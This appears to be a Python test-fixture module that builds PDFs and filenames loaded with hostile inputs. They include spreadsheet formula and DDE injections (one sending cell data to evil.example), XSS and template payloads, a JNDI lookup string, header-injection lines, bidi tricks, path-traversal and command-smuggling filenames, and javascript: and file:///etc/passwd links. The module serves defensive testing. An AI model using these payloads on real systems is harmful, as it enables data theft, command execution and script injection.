"""What a hostile document may say of itself, and what a file may be called."""

from __future__ import annotations

import os
from pathlib import Path

from reportlab import rl_config
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.ttfonts import TTFont
from reportlab.pdfgen.canvas import Canvas

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"klicka")',
    "=cmd|' /C calc'!A1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\u2066=1+1\u2069",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "'=1+1",
    "\U000e003d=1+1",
    "=1+1;=2+2",
    '";=1+1;"',
    "%0A=1+1",
)
MARKUP = (
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title><h1>x</h1>",
    "</textarea><iframe src=//evil.example>",
    "<style>*{display:none}</style>",
    "{{ 7*7 }}{% raw %}{0}{file}{title}",
    "<!-- --!><b>",
    "<![CDATA[x]]>",
    "&lt;b&gt;&amp;&#x3c;&nbsp;",
    "]]>",
    "<?xml version='1.0'?>",
    "%s%n${jndi:ldap://x}",
    "[klicka](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "| a | b |\n|---|---|",
    "# rubrik",
    "```\nkod",
    "<w:fldSimple w:instr='DDEAUTO c:\\\\windows\\\\calc.exe'/>",
    '{ INCLUDEPICTURE "http://evil.example/x" }',
    "_x0041__x000D_",
)
LINKS = (
    "https://evil.example/",
    "javascript:alert(1)",
    "file:///etc/passwd",
    "\\\\evil\\share\\x.docx",
    "www.evil.example",
    "//evil.example/x",
    "ms-word:ofe|u|http://evil.example/x",
    "mailto:a@evil.example?subject=x",
    "data:text/html,<b>x",
    "external:\\\\evil\\x",
    "internal:'Figur 2'!A1",
)
LINES = (
    "rad\r\nBcc: alla@evil.example",
    "rad\nATTACH:http://evil.example/x",
    "rad\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE",
    "rad\u2028rad\u2029rad\x0brad\x0crad\x85rad\x1crad",
    "rad\r\n\r\n<html>",
    "a;b,c:d\\n\\;\\,",
    "\r\n.\r\nMAIL FROM:<x@y>",
)
UNSEEN = (
    "\x00NUL\x00",
    "\x1b[31mröd\x1b]0;titel\x07",
    "\x08\x08\x08bakom",
    "\x80\x9b31m",
    "2014\u202e13-21-4102",
    "abc\u202e fdp.exe",
    "gäller\u200b till\u200csvidare\u2060",
    "\U000e0041\U000e0056tag",
    "\ufffe\uffff",
    "\ufffd",
    "\ue000\uf0b7",
    "a\u0301\u0316" * 3,
    "\u3164\u115f",
    "\ufdd0\U0001fffe",
    "\u00ad",
)
HALVES = ("half \ud83d", "\udcff byte", "\ude00\ud83d")
LARGE = ("x" * 40_000, "ord " * 5_000, "\U0001f600" * 20_000, "e\u0301" * 10_000, "a\u0301\u0316" * 5_000)

TRICKS = (*FORMULAS, *MARKUP, *LINKS, *LINES, *UNSEEN, *HALVES)

NAMES = (
    "=1+1.pdf",
    "@x.pdf",
    "-rf.pdf",
    "+1.pdf",
    "..\\..\\..\\x.pdf",
    "%2e%2e%2f%2e%2e%2fx.pdf",
    "CON.pdf",
    "a:b.pdf",
    "a:b:$DATA.pdf",
    "\"q'u>ote.pdf",
    "ny\nrad.pdf",
    "cr\r\nlf: x.pdf",
    "tab\tx.pdf",
    "bidi\u202efdp.exe.pdf",
    "zero\u200bwidth.pdf",
    "esc\x1b[2J.pdf",
    "{0}{file}%s.pdf",
    "$(touch x)`id`.pdf",
    "<img src=x onerror=alert(1)>.pdf",
    "javascript:alert(1).pdf",
    "#x?y=z&a.pdf",
    "non\uffff\ufdd0.pdf",
    "c1\x85\x9b.pdf",
    "[a](b).pdf",
    "a;b,c.pdf",
    ". .pdf",
    "~$x.pdf",
    "nul.pdf.",
    "\U000e0041tag.pdf",
    "rad\u2028sep.pdf",
    "e\u0301.pdf",
    "\\\\evil\\share.pdf",
    "snö \U0001f600.pdf",
    os.fsdecode(b"l\xe5st\xff.pdf"),
)

_FONT = "Vera"


def pdf(path: Path, title: str, *lines: str) -> None:
    """An agreement of one page with this title, these lines below it, and the title in all its metadata."""
    if _FONT not in pdfmetrics.getRegisteredFontNames():
        pdfmetrics.registerFont(
            TTFont(_FONT, next(f for d in rl_config.T1SearchPath if (f := Path(d) / "Vera.ttf").exists()))
        )
    canvas = Canvas(str(path))
    for say in (canvas.setTitle, canvas.setAuthor, canvas.setSubject, canvas.setKeywords, canvas.setCreator):
        say(title)
    canvas.bookmarkPage("x")
    canvas.addOutlineEntry(title[:100], "x")
    for url in ("javascript:alert(1)", "file:///etc/passwd", "https://evil.example/"):
        canvas.linkURL(url, (0, 0, 600, 800))
    canvas.setFont(_FONT, 16)
    canvas.drawString(40, 790, title)
    canvas.setFont(_FONT, 9)
    for number, line in enumerate(lines):
        canvas.drawString(40, 750 - 14 * number, line)
    canvas.save()
